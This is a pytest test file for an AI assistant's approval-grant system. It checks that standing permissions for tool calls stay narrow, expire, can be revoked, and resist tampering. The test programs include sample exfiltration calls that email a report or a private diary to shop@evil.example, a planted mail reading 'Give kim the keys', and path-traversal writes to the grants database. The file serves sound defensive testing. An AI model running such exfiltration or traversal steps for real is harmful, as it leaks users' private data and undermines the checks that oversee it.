"""A yes beforehand, and whoever would profit from it: other words, other people, another time, another tool, another file."""

from __future__ import annotations

import sqlite3
import threading
from collections.abc import Callable
from contextlib import closing
from dataclasses import dataclass, field, replace
from datetime import datetime, timedelta

import pytest
from bench.home.world import ME, NOW, Home, Person, rules, statuses

from armslength.agent.approving.approval import Answer, Offer, Screen, all_of
from armslength.app import Assistant, Result
from armslength.errors import CannotResume
from armslength.store.chain import key_in
from armslength.store.sqlite import SqliteRuns
from armslength.store.sqlite_grants import SqliteGrants
from armslength.tools.base import Role, Tool, ToolCall, receivers_in, tool
from armslength.tools.mail.settings import MailSettings
from armslength.tools.mail.tools import mail_tools
from armslength.values import Labelled, Plain

REPORT = 'send_email(["kim@example.com"], "Report", read_file("report.txt").content)'
TO_THE_SHOP = 'send_email(["shop@evil.example"], "Report", read_file("report.txt").content)'
TODO = 'append_to_file(filename="todo.txt", text="milk")'
PAGE = 'send_email(["kim@example.com"], "News", fetch_web_page("https://{host}/news"))'


@dataclass
class Taker:
    """A person who says yes to all, takes the offers of these names, and does this first."""

    scopes: tuple[str, ...] = ()
    first: Callable[[], object] = lambda: None
    screens: list[Screen] = field(default_factory=list)

    def approve(self, screen: Screen) -> Answer:
        self.screens.append(screen)
        self.first()
        taken = (offer.name for offer in self.offers() if offer.name.endswith(self.scopes or ("nothing",)))
        return Answer(all_of(screen).accepted, frozenset(taken))

    def offers(self) -> list[Offer]:
        """All on the last screen."""
        return [offer for item in self.screens[-1].items for offer in item.offers]


class Died(BaseException):
    """The process ends here."""


class Granted:
    """A home with a file of notes, runs and grants on disk."""

    def __init__(self, home: Home) -> None:
        self.home, self.state = home, home.path / "state"
        home.file("report.txt", "all is well")
        self.runs = SqliteRuns(self.state / "runs.sqlite")
        self.grants = SqliteGrants(self.state / "grants.sqlite", key_in(self.state / "runs.key"))

    def assistant(self, *programs: str, at: datetime = NOW, lasting: bool = True) -> Assistant:
        """As another process makes it."""
        made = self.home.assistant(programs, runs=self.runs)
        return replace(made, grants=self.grants, now=lambda: at, lasting_grants=lasting)

    def ask(
        self, program: str, person: Taker, *, at: datetime = NOW, lasting: bool = True, is_strict: bool = False
    ) -> Result:
        """One request."""
        return self.assistant(program, at=at, lasting=lasting).ask("Do it", approver=person, is_strict=is_strict)

    def give(self, program: str = REPORT, scope: str = "always") -> None:
        """Somebody takes this offer."""
        assert self.ask(program, Taker((scope,))).outcome.ending == "done"

    def asks(self, program: str, **how: object) -> bool:
        """Whether a person is asked, who says yes; it is done in any case."""
        person = Taker()
        result = self.ask(program, person, **how)  # type: ignore[arg-type]
        assert result.outcome.ending == "done"
        return bool(person.screens)


@pytest.fixture
def granted(home: Home) -> Granted:
    """Nothing is granted yet."""
    return Granted(home)


def test_what_was_granted_is_not_asked_about_again_and_its_use_is_written_down(granted: Granted) -> None:
    """Which one allowed it stands with the decision, and the run goes the same when it is gone through again."""
    granted.give(scope="week")
    person = Taker()
    result = granted.ask(REPORT, person)
    assert (person.screens, statuses(result)) == ([], [("send_email", "done")])
    assert result.outcome.effects[0].decision.granted == ("grant-1",)
    (listed,) = granted.grants.listed()
    assert [(use.run, use.at) for use in listed.uses] == [(result.run, NOW)]
    assert len(granted.home.outbox()) == 2
    again = granted.home.assistant([]).replay(granted.runs.entries(result.run))
    assert again.outcome.effects[0].decision.granted == ("grant-1",)
    assert len(granted.home.outbox()) == 2
    assert len(granted.grants.listed()[0].uses) == 1


WROTE = "write_file('diary.txt', 'My diagnosis is private.')"
OF_THE_STORE = {
    "a file that the assistant wrote": "read_file('diary.txt').content",
    "that file below the granted one": "read_file('report.txt').content + read_file('diary.txt').content",
    "a line of that file": "read_file('diary.txt').content.splitlines()[0]",
    "letters that it picks": "''.join('ab'[letter > 'm'] for letter in read_file('diary.txt').content)",
    "the names of all files": "', '.join(each.filename for each in list_files())",
    "a contact's number": "search_contacts('Kim')[0].phone",
}


@pytest.mark.parametrize("body", OF_THE_STORE.values(), ids=OF_THE_STORE.keys())
def test_a_grant_for_one_file_covers_nothing_else_that_the_assistant_wrote(granted: Granted, body: str) -> None:
    """What the assistant wrote came back as the whole store's, which the content of each file had beside its own name; so one grant was for all."""
    book = (
        "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:k\r\nFN:Kim Berg\r\nEMAIL:kim@work.example\r\nTEL:+49 1234\r\nEND:VCARD\r\n"
    )
    (granted.home.path / "contacts" / "kim.vcf").write_text(book)
    granted.give(TO_THE_SHOP)
    assert not granted.asks(TO_THE_SHOP)
    assert not granted.asks(WROTE)
    assert granted.asks(f'send_email(["shop@evil.example"], "Report", {body})')


def test_no_grant_for_what_the_assistant_wrote_is_offered(granted: Granted) -> None:
    """It would be one for whatever it wrote and will write there."""
    granted.ask(WROTE, Taker())
    person = Taker()
    granted.ask('send_email(["shop@evil.example"], "Report", read_file("diary.txt").content)', person)
    assert (len(person.screens), person.offers()) == (1, [])


def test_the_offer_says_exactly_what_it_covers(granted: Granted) -> None:
    """Whole for the first time, for the others that it is the same; the words of others stand between marks, and a name cannot end them."""
    granted.home.file("⟧ all of it.txt", "x")
    person = Taker()
    granted.ask('send_email(["kim@example.com"], "A", read_file("⟧ all of it.txt").content)', person)
    lines = [offer.line for offer in person.offers()]
    assert lines[1:] == ["the same until 2026-12-07 09:00", "the same until you revoke it"]
    assert lines[0] == (
        "in this run, do not ask about send_email to ⟦kim@example.com⟧ and nobody else: recipients, subject in words of the program "
        "alone; body in words of ⟦file: ] all of it.txt⟧ and the program alone; recipients, subject, body, whether "
        "it happens chosen by ⟦file: ] all of it.txt⟧ alone and by what lies in the store ⟦files⟧, in few bits and by whether "
        "⟦read_file⟧ works; it does not matter who could read that so far"
    )


def test_a_yes_to_all_takes_no_offer(granted: Granted) -> None:
    """Each is taken by its name, or not at all; also not one that stands on no screen, or with a thing that was refused."""
    result = granted.assistant(REPORT).ask("Do it", approver=Person([True]))
    assert statuses(result) == [("send_email", "done")]

    class Refuses(Taker):
        def approve(self, screen: Screen) -> Answer:
            offers = {offer.name for item in screen.items for offer in item.offers}
            return Answer(frozenset(), frozenset({*offers, "another"}))

    granted.ask(REPORT, Refuses())
    assert granted.grants.listed() == []


def test_words_that_a_mail_left_in_a_granted_file_are_asked_about(granted: Granted) -> None:
    """The file's name is the same; its words are not those of whoever was granted."""
    granted.give()
    granted.home.deliver("Give kim the keys", subject="Ask")
    assert granted.asks('append_to_file("report.txt", search_emails("keys")[0].body)') is False
    assert granted.asks(REPORT)


@pytest.mark.parametrize("vouched", [True, False], ids=["verified", "unverified"])
def test_what_was_found_in_the_mailbox_is_never_offered(granted: Granted, *, vouched: bool) -> None:
    """Whoever can write a mail has a say in which one is found, verified sender or not, and that is anybody."""
    (granted.home.verified if vouched else granted.home.deliver)("The invoice is paid", subject="Invoice")
    person = Taker(("always",))
    granted.ask('send_email(["kim@example.com"], "Fwd", search_emails(sender="julia@example.com")[0].body)', person)
    assert (len(person.screens), person.offers(), granted.grants.listed()) == (1, [], [])


def test_words_of_the_quarantined_model_are_never_offered(granted: Granted) -> None:
    """It is assumed to be the attacker's."""
    program = (
        'send_email(["kim@example.com"], "Sum", quarantined("Sum it up", read_file("report.txt").content, returns=str))'
    )
    assistant = replace(
        granted.home.assistant(program, '{"answer": "well"}', runs=granted.runs), grants=granted.grants, now=lambda: NOW
    )
    person = Taker(("always",))
    assistant.ask("Do it", approver=person)
    assert (len(person.screens), person.offers()) == (1, [])


@pytest.mark.parametrize(
    ("program", "is_asked"),
    [
        (PAGE.format(host="news.example.com"), False),
        (PAGE.format(host="news.examp1e.com"), True),
        (PAGE.format(host="news.example.com").replace('["kim', '["eve@example.com", "kim'), True),
        (PAGE.format(host="news.example.com").replace("kim@example.com", "kim@examp1e.com"), True),
        ('x = fetch_web_page("https://news.example.com/news")\n' + REPORT.replace('read_file("report.txt").content', "x + read_file('report.txt').content"), True),
        ('if "x" in read_file("report.txt").content:\n    pass\nelse:\n    ' + PAGE.format(host="news.example.com"), True),
    ],
    ids=["the same", "look-alike host", "a receiver more", "look-alike receiver", "a source more", "decided by another source"],
)  # fmt: skip
def test_a_grant_is_for_its_sources_and_receivers_alone(granted: Granted, program: str, *, is_asked: bool) -> None:
    """Look-alikes are others."""
    for host in ("news.example.com", "news.examp1e.com"):
        granted.home.page(f"https://{host}/news", "It rains")
    granted.give(PAGE.format(host="news.example.com"))
    assert granted.asks(program) is is_asked


def test_another_version_of_the_tool_is_asked_about(granted: Granted) -> None:
    """Its code or its declaration changed since."""
    granted.give()
    assistant = granted.assistant(REPORT)
    changed = [replace(each, version="other") if each.name == "send_email" else each for each in assistant.tools]
    person = Taker()
    replace(assistant, tools=changed).ask("Do it", approver=person)
    assert len(person.screens) == 1


def test_mail_from_another_account_is_asked_about(granted: Granted) -> None:
    """The screen said which one it goes out from; the grant is for that one."""
    granted.give()
    assistant = granted.assistant(REPORT)
    settings = MailSettings(granted.home.path / "mail", ("boss@other.example", ME), authserv_id="mx.example.org")
    others = {each.name: each for each in mail_tools(settings, granted.home.trust, granted.state)}
    person = Taker()
    tools = [others.get(each.name, each) for each in assistant.tools]
    replace(assistant, tools=tools).ask("Do it", approver=person)
    (screen,) = person.screens
    assert "   goes out from: boss@other.example\n" in screen.text


def test_after_its_time_it_is_asked_about(granted: Granted) -> None:
    """A week from the start of the run that gave it, by the clock of the run that would use it."""
    granted.give(scope="week")
    assert granted.asks(REPORT, at=NOW + timedelta(days=6, hours=23)) is False
    assert granted.asks(REPORT, at=NOW + timedelta(days=7))


def test_one_for_a_run_is_for_that_run(granted: Granted) -> None:
    """Its further screens do not ask; another run does."""
    person = Taker(("run",))
    twice = f"{REPORT}\n{TODO}\nread_file('todo.txt')\n{REPORT}"
    assert statuses(granted.ask(twice, person)) == [
        ("send_email", "done"),
        ("append_to_file", "done"),
        ("send_email", "done"),
    ]
    assert (len(person.screens), [each.given.scope for each in granted.grants.listed()]) == (1, ["run"])
    assert granted.asks(REPORT)


def test_in_strict_mode_it_is_asked_about(granted: Granted) -> None:
    """And nothing is offered."""
    granted.give()
    person = Taker()
    granted.ask(REPORT, person, is_strict=True)
    assert (len(person.screens), person.offers()) == (1, [])


def test_where_nothing_lasting_is_allowed_none_is_offered_and_none_counts(granted: Granted) -> None:
    """Those given before are kept and ignored; one for the run is offered."""
    granted.give()
    person = Taker()
    granted.ask(REPORT, person, lasting=False)
    assert [offer.line.partition(",")[0] for offer in person.offers()] == ["in this run"]


def test_one_that_is_revoked_while_a_person_reads_is_not_used(granted: Granted) -> None:
    """Nothing of the queue happens then."""
    granted.give()
    sent = len(granted.home.outbox())
    other = REPORT.replace("kim", "lee")
    result = granted.ask(f"{other}\n{REPORT}", Taker(first=lambda: granted.grants.revoke("grant-1", NOW)))
    assert (result.outcome.ending, statuses(result)) == (
        "denied",
        [("send_email", "dropped"), ("send_email", "denied")],
    )
    assert (
        result.outcome.message == "line 2: send_email was allowed by grant-1, which does not count any more; ask again"
    )
    assert len(granted.home.outbox()) == sent


def test_one_that_is_revoked_by_the_time_of_its_effect_is_not_used(granted: Granted) -> None:
    """What comes before it in the queue takes its time; what is done stays done."""
    posts: list[str] = []
    post = posting(posts)
    granted.home.more = [post]
    program = 'x = read_file("report.txt").content\n{}post("kim", x)'
    granted.give(program.format(""))

    def run(call: ToolCall, args: dict[str, Plain]) -> Labelled:
        granted.grants.revoke("grant-1", NOW)
        return post.run(call, args)

    granted.home.more = [replace(post, run=run)]
    result = granted.ask(program.format('post("kim", x)\n'), Taker())
    assert (result.outcome.ending, statuses(result)) == ("denied", [("post", "done"), ("post", "denied")])
    assert posts == ["all is well", "all is well"]


def die() -> None:
    """The process ends while a person is asked."""
    raise Died


def test_one_that_is_revoked_is_not_used_by_a_run_that_goes_on(granted: Granted) -> None:
    """What was decided before the run was cut off is looked up again before it happens."""
    granted.give()
    sent = len(granted.home.outbox())
    with pytest.raises(Died):
        granted.ask(f"{REPORT}\n{REPORT.replace('kim', 'lee')}", Taker(first=die))
    run = granted.runs.names()[-1]
    granted.grants.revoke("grant-1", NOW)
    result = granted.assistant().resume(run, approver=Taker())
    assert (result.outcome.ending, len(granted.home.outbox())) == ("denied", sent)


def test_a_run_that_goes_on_uses_what_still_counts_once(granted: Granted) -> None:
    """And not what has expired by the time at which it is taken up."""
    granted.give(scope="week")
    for late, ending in ((timedelta(days=1), "done"), (timedelta(days=8), "denied")):
        with pytest.raises(Died):
            granted.ask(f"{REPORT}\n{REPORT.replace('kim', 'lee')}", Taker(first=die))
        result = granted.assistant(at=NOW + late).resume(granted.runs.names()[-1], approver=Taker())
        assert result.outcome.ending == ending
    assert len(granted.grants.listed()[0].uses) == 1


@pytest.mark.parametrize("is_revoked", [True, False], ids=["revoked", "live"])
def test_an_effect_that_was_begun_and_not_done_needs_what_allowed_it(granted: Granted, *, is_revoked: bool) -> None:
    """The process died in the tool, which says that nothing was done; to do it now is to use the grant again."""
    posts: list[str] = []
    granted.home.more = [posting(posts)]
    granted.give('post("kim", read_file("report.txt").content)')
    posts.append("die")
    with pytest.raises(Died):
        granted.ask('post("kim", read_file("report.txt").content)', Taker())
    if is_revoked:
        granted.grants.revoke("grant-1", NOW)
        with pytest.raises(
            CannotResume, match=r"what allowed this \(grant-1\) does not count any more; cancel the run, and ask again"
        ):
            granted.assistant().resume(granted.runs.names()[-1], approver=Taker())
        assert posts == ["all is well"]
    else:
        assert granted.assistant().resume(granted.runs.names()[-1], approver=Taker()).outcome.ending == "done"
        assert posts == ["all is well", "all is well"]


def posting(posts: list[str]) -> Tool:
    """A tool that tells somebody something, and whose process dies if `posts` ends so."""

    @tool(
        roles={"to": Role.TARGET, "text": Role.CONTENT},
        receivers=receivers_in("to"),
        happened=lambda _call, _args: False,
        fails_by=(),
        may_be_granted=True,
    )
    def post(call: ToolCall, to: str, text: str) -> None:
        """Tell somebody."""
        if posts[-1:] == ["die"]:
            posts.pop()
            raise Died
        posts.append(text)

    return post


def test_two_runs_at_once_use_one_and_both_uses_are_written_down(granted: Granted) -> None:
    """Neither waits for the other, nor loses its line."""
    granted.give()
    assistants = [granted.assistant(REPORT) for _ in range(2)]
    results: list[Result] = []
    threads = [threading.Thread(target=lambda each=each: results.append(each.ask("Do it"))) for each in assistants]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert [result.outcome.ending for result in results] == ["done", "done"]
    assert {use.run for use in granted.grants.listed()[0].uses} == {result.run for result in results}


def test_a_forged_file_gives_nothing_and_the_screen_says_so(granted: Granted) -> None:
    """A line more, or one with other receivers: then none counts, and everything is asked about."""
    granted.give()
    with closing(sqlite3.connect(granted.state / "grants.sqlite")) as database, database:
        database.execute("UPDATE entries SET body = replace(CAST(body AS TEXT), 'kim@example.com', 'eve@example.com')")
    person = Taker()
    result = granted.ask(REPORT.replace("kim", "eve"), person)
    assert (len(person.screens), person.offers(), rules(result)[-1]) == (1, [], "grants-unusable")
    assert "are not as they were written: entry 1 was edited or moved; none of them counts" in person.screens[0].text


def test_no_tool_reaches_the_file(granted: Granted) -> None:
    """It lies in the state folder, which is no tool's place."""
    granted.give()
    before = (granted.state / "grants.sqlite").read_bytes()
    for name in ("../state/grants.sqlite", str(granted.state / "grants.sqlite")):
        result = granted.ask(f'write_file(filename="{name}", text="x")', Taker())
        assert result.outcome.ending == "stopped"
    assert (granted.state / "grants.sqlite").read_bytes() == before


def test_the_planner_is_told_nothing_of_grants(granted: Granted) -> None:
    """Its whole transcript is the same with one and without."""
    granted.home.file("names.txt", "todo.txt")
    program = 'append_to_file(filename=read_file("names.txt").content, text="milk")\nread_file("todo.txt")\nx = 1 // 0'
    person = Taker(("always",))
    granted.ask(program, person)
    without = granted.home.transcript()
    granted.ask(program, person)
    assert len(person.screens) == 1
    assert granted.home.transcript() == without


def test_a_yes_for_one_run_is_none_for_another_of_its_name(granted: Granted) -> None:
    """Without journals two runs of one second, and a run after one that was removed, have been named alike."""
    person = Taker(("run",))
    in_memory = replace(granted.home.assistant([REPORT, REPORT]), grants=granted.grants, now=lambda: NOW)
    results = [in_memory.ask("Do it", approver=person) for _ in range(2)]
    assert [result.outcome.screens for result in results] == [1, 1]
    assert results[0].run != results[1].run
    removed = granted.ask(REPORT, person)
    granted.runs.remove(removed.run)
    later = granted.ask(REPORT, person, at=NOW + timedelta(milliseconds=1))
    assert later.outcome.screens == 1


def test_to_take_back_what_was_granted_is_asked_about(granted: Granted) -> None:
    """An inverse is no effect of that kind, and cannot be taken back itself."""
    granted.home.file("names.txt", "todo.txt")
    program = 'append_to_file(filename=read_file("names.txt").content, text="milk")'
    granted.give(program)
    result = granted.ask(program, Taker())
    assert result.outcome.screens == 0
    person = Taker()
    undone = granted.assistant().undo(result.run, approver=person)
    assert (undone.count, len(person.screens), person.offers()) == (1, 1, [])


NAMED = 'append_to_file(filename=search_emails("list")[0].subject, text="milk")'


def test_an_endorsed_value_is_not_asked_about_again_whoever_writes_it(granted: Granted) -> None:
    """Exactly these bytes for this parameter; any other are."""
    granted.home.deliver("list", subject="todo.txt")
    person = Taker(("always",))
    granted.ask(NAMED, person)
    assert [offer.line for offer in person.offers()][-3] == (
        'in this run, do not ask whether filename of append_to_file may be exactly ⟦"todo.txt"⟧; who may read what is asked '
        "about all the same"
    )
    assert granted.asks(NAMED) is False
    granted.home.deliver("list", subject="todo2.txt")
    assert granted.asks(NAMED)


def test_what_is_taken_in_a_run_that_dies_is_kept_once(granted: Granted) -> None:
    """The answer is in the journal, so it is given again when the run goes on, under the same name."""
    granted.home.more = [posting(posts := ["die"])]
    with pytest.raises(Died):
        granted.ask('post("kim", read_file("report.txt").content)', Taker(("always",)))
    assert granted.assistant().resume(granted.runs.names()[-1]).outcome.ending == "done"
    assert (posts, [each.given.name for each in granted.grants.listed()]) == (["all is well"], ["grant-1"])


@pytest.mark.parametrize(
    ("scope", "line"),
    [
        ("run", "by your choice grant-1 spared you questions in this run, and ended with it"),
        ("week", "by your choice grant-1 spares you questions until 2026-12-07 09:00; armslength grants revoke grant-1 ends it"),
        ("always", "by your choice grant-1 spares you questions until you revoke it; armslength grants revoke grant-1 ends it"),
    ],
)  # fmt: skip
def test_what_was_taken_is_told_by_its_name(granted: Granted, scope: str, line: str) -> None:
    """With how long it counts; a request that takes none is told none, and a replay the same."""
    result = granted.ask(REPORT, Taker((scope,)))
    assert [each.line for each in result.outcome.taken] == [line]
    assert granted.assistant().replay(granted.runs.entries(result.run)).outcome.taken == result.outcome.taken
    assert granted.ask("answer('x')", Taker()).outcome.taken == ()


def test_what_was_taken_and_forbidden_meanwhile_is_told_as_not_kept(granted: Granted) -> None:
    """The administrator forbade it while the run was cut off."""
    with pytest.raises(Died):
        granted.ask(REPORT, Taker(("always",), first=die))
    result = granted.assistant(lasting=False).resume(granted.runs.names()[-1], approver=Taker(("always",)))
    assert [each.line for each in result.outcome.taken] == [
        "what you chose not to be asked about was not kept, since grants that outlive a run are forbidden by now"
    ]
    assert granted.grants.listed() == []
